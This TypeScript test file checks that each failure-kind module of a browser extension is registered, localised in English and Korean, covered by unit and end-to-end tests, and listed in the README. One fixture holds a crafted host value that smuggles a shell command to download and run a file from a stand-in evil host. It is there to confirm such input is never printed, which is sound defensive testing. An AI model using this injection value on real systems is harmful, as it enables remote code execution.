/**
 * Keeps "a failure kind is one module" true: every folder under lib/kinds/ is registered, localised, tested in
 * units and in the real browsers that show it, and documented in the README. Each failure says what to add where.
 */
import { existsSync, readdirSync, readFileSync } from 'node:fs';
import { resolve } from 'node:path';
import { parseMessagesFile, type ParsedMessage } from '@wxt-dev/i18n/build';
import { describe, expect, it } from 'vitest';
import { EXPLAINERS, loadExplainer } from '@/lib/kinds/explainers';
import { KIND_IDS } from '@/lib/kinds/ids';
import { KINDS } from '@/lib/kinds/registry';
import type { ExplainInput, Text } from '@/lib/kinds/types';
import { scenariosFor } from '../e2e/scenarios/kinds';

const ROOT = resolve(import.meta.dirname, '../..');
const read = (path: string) => readFileSync(resolve(ROOT, path), 'utf8');
const camel = (id: string) => id.replace(/-(\w)/g, (_, letter: string) => letter.toUpperCase());

async function messages(locale: string): Promise<Map<string, string>> {
  const parsed: ParsedMessage[] = await parseMessagesFile(resolve(ROOT, `locales/${locale}.yml`));
  return new Map(
    parsed.map((message) => [
      message.key.join('.'),
      message.type === 'plural' ? Object.values(message.plurals).join(' ') : message.message,
    ]),
  );
}

const SAMPLE: ExplainInput = {
  url: 'http://localhost:6000/',
  host: 'localhost',
  port: 6000,
  scheme: 'http:',
  serviceName: 'X11',
  conventionName: 'PostgreSQL',
};

/** A host the URL parser keeps but no snippet may print (a shell would run it): kinds show a placeholder. */
const CRAFTED = { ...SAMPLE, host: 'a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app' };

/** A Text and the Texts among its arguments (placeholders), each checked like any other. */
const withNested = (text: Text): Text[] => [
  text,
  ...(text.args ?? []).flatMap((arg) => (typeof arg === 'string' ? [] : withNested(arg))),
];

/** Every Text a kind can produce for the sample, with and without the optional names. */
async function texts(kind: (typeof KINDS)[number]): Promise<Text[]> {
  const bare = { ...SAMPLE, serviceName: undefined, conventionName: undefined };
  const explain = await loadExplainer(kind.id);
  const all: Text[] = [
    kind.headline(SAMPLE),
    explain.title(SAMPLE),
    explain.summary(SAMPLE),
    explain.summary(bare),
    ...[explain.fix?.(SAMPLE)?.label].filter((text): text is Text => text !== undefined),
    ...(['chromium', 'firefox'] as const).flatMap((engine) => [
      ...[explain.fix?.({ ...SAMPLE, engine })?.label].filter((text): text is Text => text !== undefined),
      ...(explain.checklist?.({ ...SAMPLE, engine }) ?? []),
    ]),
    // Each of its codes may word it differently (host-guard: Vite or webpack-dev-server).
    ...kind.codes.flatMap((code) => [
      explain.summary({ ...SAMPLE, code }),
      ...(explain.checklist?.({ ...SAMPLE, code }) ?? []),
      ...(explain.checklist?.({ ...CRAFTED, code }) ?? []),
    ]),
  ];
  return all.flatMap(withNested);
}

describe('failure kinds: one module each', async () => {
  const en = await messages('en');
  const ko = await messages('ko');
  const folders = readdirSync(resolve(ROOT, 'lib/kinds'), { withFileTypes: true })
    .filter((entry) => entry.isDirectory() && entry.name !== 'generated')
    .map((entry) => entry.name);

  it('finds every folder of lib/kinds as a kind, in the precedence each declares (scripts/gen-kinds.ts)', () => {
    expect([...KIND_IDS].sort()).toEqual([...folders].sort());
    expect(KINDS.map((kind) => kind.id)).toEqual(KIND_IDS);
    expect(Object.keys(EXPLAINERS).sort()).toEqual([...KIND_IDS].sort());
    expect(new Set(KIND_IDS).size).toBe(KIND_IDS.length);
    const precedences = KINDS.map((kind) => kind.precedence);
    expect(precedences).toEqual([...precedences].sort((a, b) => a - b));
    expect(new Set(precedences).size).toBe(precedences.length);
  });

  it('a plain new kind is six files: its folder (kind, explain, unit table), two locales, one e2e scenario', () => {
    // What this file asks of each kind, and nothing else names a kind: no list to edit anywhere.
    const perKind = (id: string) => [
      `lib/kinds/${id}/kind.ts`,
      `lib/kinds/${id}/explain.ts`,
      `lib/kinds/${id}/kind.test.ts`,
      'locales/en.yml',
      'locales/ko.yml',
      'one row in test/e2e/scenarios/kinds.ts (or an engine-only e2e test tagged [kind:<id>])',
    ];
    expect(perKind('a-new-kind')).toHaveLength(6);
    // Outside the kinds' own folders and the build's generated lists, no source file lists the kinds' ids: a new
    // kind has no list to be added to (a file may name one or two kinds it is about).
    const naming = ['lib', 'entrypoints', 'components']
      .flatMap((folder) =>
        readdirSync(resolve(ROOT, folder), { recursive: true, withFileTypes: true })
          .filter((entry) => entry.isFile() && /\.(ts|svelte)$/.test(entry.name))
          .map((entry) => resolve(entry.parentPath, entry.name)),
      )
      .filter((path) => !/\/lib\/kinds\/[a-z-]+\//.test(path))
      .filter((path) => KIND_IDS.filter((id) => readFileSync(path, 'utf8').includes(`'${id}'`)).length > 2);
    expect(naming).toEqual([]);
  });

  it.each(KINDS.map((kind) => [kind.id, kind] as const))('%s: declared in its own folder', (id, kind) => {
    for (const file of ['kind.ts', 'explain.ts'])
      expect(existsSync(resolve(ROOT, `lib/kinds/${id}/${file}`)), `lib/kinds/${id}/${file}`).toBe(true);
    expect(id).toMatch(/^[a-z]+(-[a-z0-9]+)*$/);
    // Found from the browser's errors, or by a probe after another registered kind.
    if (kind.refines === undefined)
      expect(kind.codes.length, 'the error strings it listens to').toBeGreaterThan(0);
    else expect(KIND_IDS, `${id} refines ${kind.refines}`).toContain(kind.refines);
  });

  it.each(KINDS.map((kind) => [kind.id, kind] as const))(
    '%s: every text it shows exists in en and ko, with as many arguments as placeholders',
    async (_id, kind) => {
      for (const locale of [en, ko]) {
        expect(locale.has(`kind.${camel(kind.id)}.headline`)).toBe(true);
        expect(locale.has(`kind.${camel(kind.id)}.summary`)).toBe(true);
      }
      // A kind speaks only with its own messages.
      for (const text of await texts(kind))
        expect(text.key.startsWith(`kind.${camel(kind.id)}.`), text.key).toBe(true);
      for (const text of await texts(kind)) {
        for (const [name, locale] of [
          ['en', en],
          ['ko', ko],
        ] as const) {
          const message = locale.get(text.key);
          expect(message, `${text.key} in locales/${name}.yml`).toBeDefined();
          const placeholders = new Set(message!.match(/\$\d/g) ?? []).size;
          expect(text.args?.length ?? 0, `${text.key}: arguments`).toBe(placeholders);
        }
      }
    },
  );

  it('has no message under kind.* for a kind that is not registered', () => {
    const prefixes = new Set(KIND_IDS.map((id) => `kind.${camel(id)}`));
    const orphans = [...en.keys()]
      .filter((key) => key.startsWith('kind.'))
      .filter((key) => !prefixes.has(key.split('.').slice(0, 2).join('.')));
    expect(orphans).toEqual([]);
  });

  it.each(KIND_IDS.map((id) => [id]))('%s: has its unit table (lib/kinds/<id>/kind.test.ts)', (id) => {
    expect(existsSync(resolve(ROOT, `lib/kinds/${id}/kind.test.ts`))).toBe(true);
  });

  it.each(
    KINDS.flatMap((kind) =>
      (['chromium', 'firefox'] as const).map((engine) => [kind.id, engine, kind] as const),
    ),
  )('%s in %s: an e2e scenario where the browser shows it', async (id, engine, kind) => {
    const dir = resolve(ROOT, `test/e2e/${engine}`);
    const tagged =
      scenariosFor(engine).some(({ outcome }) => outcome.kind === id) ||
      readdirSync(dir).some((file) => read(`test/e2e/${engine}/${file}`).includes(`[kind:${id}]`));
    expect(
      tagged,
      `a row for ${engine} in test/e2e/scenarios/kinds.ts, or a test in test/e2e/${engine} titled "… [kind:${id}]"`,
    ).toBe((await loadExplainer(kind.id)).seen[engine].length > 0);
  });

  it.each(KIND_IDS.map((id) => [id]))(
    '%s: has its row in the README table of what each browser shows',
    (id) => {
      const table = read('README.md')
        .split('### What each browser lets an extension see')[1]!
        .split('\n### ')[0]!;
      expect(table).toContain(`| \`${id}\``);
    },
  );
});
